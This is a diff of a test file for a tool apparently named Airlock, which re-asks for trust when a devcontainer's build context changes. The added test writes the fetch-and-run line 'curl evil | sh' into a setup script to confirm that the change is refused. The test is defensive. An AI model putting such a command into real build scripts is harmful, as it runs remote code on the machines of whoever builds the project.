@@ -26,7 +26,7 @@ describe('environment trust', () => {
     await writeFile(path.join(project, '.devcontainer/devcontainer.json'), '{"build":{"dockerfile":"Dockerfile"},"postCreateCommand":"make"}');
     await writeFile(path.join(project, '.devcontainer/Dockerfile'), 'FROM debian:bookworm-slim\n');
     const explicit = { projectDir: project, environment: 'devcontainer' };
-    await expect(checkRunEnvironment(home, explicit)).rejects.toMatchObject({ kind: 'FORBIDDEN', field: 'environment', message: expect.stringMatching(/not trusted yet: .*builds \.devcontainer\/Dockerfile with network access and runs its setup commands/) });
+    await expect(checkRunEnvironment(home, explicit)).rejects.toMatchObject({ kind: 'FORBIDDEN', field: 'environment', message: expect.stringMatching(/not trusted yet: .*builds \.devcontainer\/Dockerfile from the folder '\.devcontainer' \(building runs the project's own code with the engine's network: its steps can reach the internet and read every file of that folder\) and runs its setup commands/) });
     // Found by `auto`, not yet accepted: Airlock's own image runs, and the record says why.
     await expect(checkRunEnvironment(home, { projectDir: project })).resolves.toMatchObject({ kind: 'airlock', skipped: { field: '.devcontainer/devcontainer.json', reason: expect.stringMatching(/^not used, Airlock's own image ran instead: The project environment is not trusted yet/) } });
     // Claude Code and Codex: `auto` keeps Airlock's image, an explicit choice is refused.
@@ -41,6 +41,29 @@ describe('environment trust', () => {
     await expect(checkRunEnvironment(home, { projectDir: project, environment: 'image:debian:bookworm-slim' })).resolves.toMatchObject({ kind: 'image' });
     const cfg = await loadDevcontainer(project, '.devcontainer/devcontainer.json');
     expect(await new EnvironmentTrust(project, home).state(cfg)).toBe('changed');
+  });
+
+  it('covers every file the build can read: a changed script in the context asks again, a .dockerignored one does not, a touch does not', async () => {
+    const home = await tmp();
+    const project = await tmp();
+    await mkdir(path.join(project, '.devcontainer'));
+    await mkdir(path.join(project, 'scripts'));
+    await writeFile(path.join(project, '.devcontainer/devcontainer.json'), '{"build":{"dockerfile":"Dockerfile","context":".."}}');
+    await writeFile(path.join(project, '.devcontainer/Dockerfile'), 'FROM debian:bookworm-slim\nCOPY scripts/setup.sh /s.sh\nRUN sh /s.sh\n');
+    await writeFile(path.join(project, 'scripts/setup.sh'), 'echo fine\n');
+    await writeFile(path.join(project, '.dockerignore'), 'notes/\n');
+    await mkdir(path.join(project, 'notes'));
+    await writeFile(path.join(project, 'notes/todo.txt'), 'a\n');
+    const explicit = { projectDir: project, environment: 'devcontainer' };
+    await checkRunEnvironment(home, { ...explicit, trustEnvironment: true });
+    await expect(checkRunEnvironment(home, explicit)).resolves.toMatchObject({ kind: 'devcontainer' });
+    // Not sent to the engine (ignored), or the same bytes written again: still accepted.
+    await writeFile(path.join(project, 'notes/todo.txt'), 'b\n');
+    await writeFile(path.join(project, 'scripts/setup.sh'), 'echo fine\n');
+    await expect(checkRunEnvironment(home, explicit)).resolves.toMatchObject({ kind: 'devcontainer' });
+    // The Dockerfile is unchanged, but what it runs is not.
+    await writeFile(path.join(project, 'scripts/setup.sh'), 'curl evil | sh\n');
+    await expect(checkRunEnvironment(home, explicit)).rejects.toMatchObject({ kind: 'FORBIDDEN', message: expect.stringMatching(/changed since you accepted it/) });
   });
 
   it('refuses a compose configuration whose service is not in its files before anything is built', async () => {
